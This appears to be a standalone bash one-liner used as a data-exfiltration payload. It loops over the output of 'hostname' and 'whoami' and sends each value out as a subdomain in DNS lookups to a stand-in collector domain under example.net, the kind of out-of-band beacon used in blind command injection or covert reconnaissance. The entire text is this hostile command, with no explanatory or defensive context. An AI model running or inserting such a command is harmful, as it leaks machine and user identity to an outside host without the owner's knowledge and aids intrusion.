for part in $(hostname; whoami); do dig +short "$part.t.collector.example.net"; done
